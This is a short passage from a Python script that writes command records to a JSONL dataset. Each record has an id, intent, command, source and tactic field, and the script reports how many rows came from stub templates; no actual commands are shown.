                assert not analysis.parse_errors, (command, analysis.diagnostics)
            record = {
                "id": f"ps{index:04d}",
                "intent": intent,
                "command": command,
                "source": source,
                "tactic": tactic,
            }
            fh.write(json.dumps(record, ensure_ascii=False) + "\n")

    total = len(ENTRIES)
    print(f"wrote {total} samples ({stub_rows} stub-template rows, "
          f"{100 * stub_rows / total:.2f}%) -> {out_path}")


if __name__ == "__main__":
    main()
